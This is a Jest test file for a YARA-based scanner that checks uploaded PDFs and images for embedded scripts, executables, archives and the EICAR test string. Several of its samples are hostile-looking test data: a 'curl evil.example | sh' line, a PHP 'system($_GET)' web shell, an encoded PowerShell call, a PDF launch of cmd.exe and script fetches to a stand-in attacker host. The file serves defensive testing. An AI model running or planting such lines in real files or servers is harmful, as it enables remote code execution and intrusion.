// The embedded scanner on real files: every rule on one that it must find, and on its
// harmless neighbour; EICAR wherever it can hide; and what the scanner does in trouble.
import { afterAll, describe, expect, it } from '@jest/globals'
import { readFileSync } from 'node:fs'
import { deflateSync } from 'node:zlib'
import type { ContentType } from '../../src/documents/file_type.ts'
import { createYara, ruleFiles } from '../../src/documents/yara.ts'
import { ascii85, asciiHex, lzw, runLength } from '../setup/pdf_packers.ts'
import {
  deflated,
  eicar,
  fifteenMiB,
  jpeg,
  noise,
  objectStream,
  pdf,
  pdfOfSize,
  png,
  shared,
  stream,
  webp,
  windowsProgram,
  zip,
} from '../setup/files.ts'

const yara = createYara()
afterAll(() => yara.close())

async function ruleMet(bytes: Buffer, contentType: ContentType = 'application/pdf') {
  return (await yara.scan({ bytes: shared(bytes), contentType })).rule
}

const text = (value: string): Buffer => Buffer.from(value, 'latin1')
const after = (start: Buffer, end: Buffer | string): Buffer => Buffer.concat([start, Buffer.from(end as string, 'latin1')])
const elf = Buffer.from('7f454c4602010100', 'hex')
const action = (dictionary: string): Buffer => pdf({ catalogue: `/OpenAction << ${dictionary} >>` })
const picture = 'image/jpeg' as const

/** Rule, a file that meets it, its neighbour that meets none, and the type of both. */
const samples: [string, Buffer, Buffer, ContentType?][] = [
  ['eicar_test_file', jpeg(eicar), jpeg(eicar.subarray(0, 60)), picture],
  ['pdf_javascript', action('/S /JavaScript /JS (app.alert\\(1\\))'), action('/S /GoTo /D [3 0 R /Fit]')],
  ['pdf_javascript', pdf({ objects: [objectStream('<< /S /JavaScript /JS (a) >>')] }), pdf({ objects: [objectStream('<< /S /GoTo >>')] })],
  ['pdf_javascript', action('/S /J#61vaScript /JS 4 0 R'), action('/S /Jav /N#4as (a)')],
  ['pdf_javascript', action('/S /Rendition /JS (app.launchURL\\()'), action('/S /Rendition /JSX (a)')],
  ['pdf_launch', action('/S /Launch /F (cmd.exe)'), action('/S /Named /N /LaunchPad')],
  ['pdf_embedded_file', pdf({ objects: [stream(text('x'), '/Type /EmbeddedFile')] }), pdf({ objects: [stream(text('x'), '/Type /Embedded')] })],
  ['pdf_embedded_file', pdf({ objects: ['<< /Type /Filespec /F (a.docm) /EF << /F 5 0 R >> >>'] }), pdf({ objects: ['<< /Type /Filespec /F (a.pdf) /EFX 1 >>'] })],
  ['pdf_external_fetch', pdf({ catalogue: '/AA << /O << /S /URI /URI (http://evil.example/) >> >>' }), pdf({ objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/) >> >>'] })],
  ['pdf_external_fetch', action('/S /GoToE /F (\\\\\\\\10.0.0.1\\\\share)'), action('/S /GoTo /D (chapter)')],
  ['pdf_external_fetch', action('/S /SubmitForm /F (https://evil.example/)'), action('/S /ResetForm')],
  ['pdf_xfa_form', pdf({ catalogue: '/AcroForm << /XFA [(template) 4 0 R] >>' }), pdf({ catalogue: '/AcroForm << /Fields [] >>' })],
  ['pdf_encrypted', pdf({ trailer: '/Encrypt 4 0 R' }), pdf({ objects: ['<< /Title (Encrypt 4 0 R) >>'] })],
  ['windows_executable', after(pdf(), windowsProgram()), after(pdf(), 'MZ as in a name')],
  ['windows_executable', pdf({ objects: [deflated(windowsProgram())] }), pdf({ objects: [deflated(text('MZ'))] })],
  ['unix_executable', after(png, elf), after(png, elf.subarray(0, 4)), 'image/png'],
  ['bytecode', after(png, Buffer.from('cafebabe00000034001d0a', 'hex')), after(png, Buffer.from('cafebabe', 'hex')), 'image/png'],
  ['windows_shortcut', jpeg(Buffer.from('4c0000000114020000000000c000000000000046', 'hex')), jpeg(Buffer.from('4c00000001140200', 'hex')), picture],
  ['zip_archive', after(pdf(), zip('evil.exe', text('x'))), after(pdf(), zip('a', text('x')).subarray(0, 40))],
  ['zip_archive', after(png, zip('classes.jar', text('x'))), png, 'image/png'],
  ['other_archive', after(jpeg(), text('Rar!\x1a\x07\x00')), after(jpeg(), 'Rar!'), picture],
  ['other_archive', after(jpeg(), Buffer.from('377abcaf271c0004', 'hex')), after(jpeg(), '7z'), picture],
  ['office_document', after(png, Buffer.from('d0cf11e0a1b11ae1', 'hex')), after(png, Buffer.from('d0cf11e0', 'hex')), 'image/png'],
  ['html_smuggling', jpeg(text('<script>fetch("//evil.example")</script>')), jpeg(text('<x:xmpmeta><rdf:RDF>script</rdf:RDF></x:xmpmeta>')), picture],
  ['html_smuggling', after(pdf(), '<html><body>'), pdf({ objects: [deflated(text('(<html> is how a page begins) Tj'))] })],
  ['html_smuggling', after(png, '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'), after(png, '<svgx>'), 'image/png'],
  ['server_script', jpeg(text('<?php system($_GET["c"]); ?>')), jpeg(text('<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>')), picture],
  ['shell_script', after(pdf(), '\n#!/bin/sh\ncurl evil.example | sh\n'), after(pdf(), '\n#! is called a shebang\n')],
  ['shell_script', jpeg(text('powershell -enc SQBFAFgA')), jpeg(text('powershell is a shell')), picture],
  ['picture_as_javascript', after(Buffer.from('ffd8ffe02f2a4a46494600', 'hex'), '*/=1;alert(1)'), after(jpeg(), '*/=1'), picture],
]

describe('each rule', () => {
  const rows = samples.map(([rule, hit, miss, type]) => ({ rule, hit, miss, type }))
  it.each(rows)('$rule finds its sample, and none finds the neighbour', async ({ rule, hit, miss, type }) => {
    expect(await ruleMet(hit, type)).toBe(rule)
    expect(await ruleMet(miss, type)).toBe(null)
  })

  it('has a sample', () => {
    const written = ruleFiles().flatMap((file) =>
      [...readFileSync(file, 'utf8').matchAll(/^rule (\w+)/gm)].map(([, name]) => name),
    )
    expect(new Set(samples.map(([rule]) => rule))).toEqual(new Set(written))
  })
})

describe('a clean file', () => {
  it.each<[string, Buffer, ContentType]>([
    ['PDF', pdf(), 'application/pdf'],
    ['PDF with packed text', pdf({ objects: [deflated(text('BT (Dear Sir) Tj ET'))] }), 'application/pdf'],
    ['PNG', png, 'image/png'],
    ['JPEG', jpeg(), 'image/jpeg'],
    ['WebP', webp, 'image/webp'],
  ])('of type %s meets no rule', async (_, bytes, type) => {
    expect(await ruleMet(bytes, type)).toBe(null)
  })

  it('of 15 MiB of noise meets no rule by chance', async () => {
    expect(await ruleMet(pdfOfSize(fifteenMiB))).toBe(null)
    expect(await ruleMet(jpegOfNoise(), picture)).toBe(null)
  })
})

const jpegOfNoise = (): Buffer => Buffer.concat([jpeg(), noise(fifteenMiB - 100)])

describe('EICAR is found', () => {
  const packed = (names: string, data: Buffer): Buffer => pdf({ objects: [stream(data, `/Filter ${names}`)] })
  const flate = deflateSync(eicar)
  it.each<[string, Buffer, ContentType]>([
    ['plain', eicar, 'application/pdf'],
    ['renamed to .png', eicar, 'image/png'],
    ['behind a PNG', Buffer.concat([png, eicar]), 'image/png'],
    ['in a plain stream', pdf({ objects: [stream(eicar)] }), 'application/pdf'],
    ['in a deflated stream', packed('/FlateDecode', flate), 'application/pdf'],
    ['in a stream with an escaped filter name', packed('/Fl#61teDecode', flate), 'application/pdf'],
    ['in a stream that names its filter elsewhere', packed('9 0 R', flate), 'application/pdf'],
    ['in deflated data without a header', packed('/FlateDecode', flate.subarray(2)), 'application/pdf'],
    ['before a fault in deflated data', packed('/Fl', brokenAfter(flate)), 'application/pdf'],
    ['in ASCII85', packed('/ASCII85Decode', ascii85(eicar)), 'application/pdf'],
    ['in ASCII85 around deflated data', packed('[/A85 /Fl]', ascii85(flate)), 'application/pdf'],
    ['in hexadecimal', packed('/ASCIIHexDecode', asciiHex(eicar)), 'application/pdf'],
    ['in deflated data twice', packed('[/Fl /Fl]', deflateSync(flate)), 'application/pdf'],
    ['in run lengths', packed('/RunLengthDecode', runLength(eicar)), 'application/pdf'],
    ['in LZW', packed('/LZWDecode', lzw(Buffer.concat([noise(9000), eicar]))), 'application/pdf'],
    ['megabytes into a stream', packed('/FlateDecode', deflateSync(Buffer.concat([noise(5_000_000), eicar]))), 'application/pdf'],
    ['across two batches', packed('/FlateDecode', deflateSync(Buffer.concat([noise(1024 * 1024 - 30), eicar]))), 'application/pdf'],
    ['at the end of 15 MiB', endingInEicar(), 'application/pdf'],
  ])('%s', async (_, bytes, type) => {
    expect(await ruleMet(bytes, type)).toBe('eicar_test_file')
  })
})

// The block that holds EICAR is whole; the one after it has a type that doesn't exist.
function brokenAfter(whole: Buffer): Buffer {
  const first = Buffer.concat([Buffer.of(0, eicar.length, 0, ~eicar.length & 0xff, 0xff), eicar])
  return Buffer.concat([whole.subarray(0, 2), first, Buffer.of(0x07, 0xff, 0xff)])
}

function endingInEicar(): Buffer {
  const file = pdfOfSize(fifteenMiB)
  eicar.copy(file, file.length - eicar.length)
  return file
}

describe('the verdict', () => {
  it('says which engine gave it, and with which rules', async () => {
    expect(await yara.scan({ bytes: shared(png), contentType: 'image/png' })).toEqual({
      engine: 'yara-x',
      engine_version: '0.3.0',
      signature_version: expect.stringMatching(/^sha256:[0-9a-f]{16}$/),
      rule: null,
    })
  })
})

describe('in trouble', () => {
  // Beginnings of what the rules look for, over and over: none may cost more than the limit.
  it.each(['/JS ', '/JavaScrip', '/AA<<', '(\\\\\\\\a', '<svg ', '<?= aaaaa', 'PK\x05\x06', 'MZ', '#4A'])(
    'comes to an end with 15 MiB of %j',
    async (start) => {
      await ruleMet(Buffer.alloc(fifteenMiB, start, 'latin1'))
    },
  )

  it('gives no verdict on a PDF that unpacks to more than it will read', async () => {
    const bomb = deflated(Buffer.alloc(60_000_000))
    const file = pdf({ objects: Array.from({ length: 10 }, () => bomb) })
    await expect(ruleMet(file)).rejects.toHaveProperty('message')
    expect(await ruleMet(png, 'image/png')).toBe(null)
  })

  it('ends a scan that takes too long, and the next one works', async () => {
    const hurried = createYara({ limitMs: 1 })
    const file = { bytes: shared(pdfOfSize(fifteenMiB)), contentType: 'application/pdf' as const }
    await expect(hurried.scan(file)).rejects.toHaveProperty('message')
    await hurried.close()

    const patient = createYara()
    await patient.ping()
    const both = await Promise.allSettled([patient.scan(file), patient.scan(file)])
    expect(both.map(({ status }) => status)).toEqual(['fulfilled', 'fulfilled'])
    await patient.close()
    await expect(patient.ping()).rejects.toHaveProperty('message')
  })
})
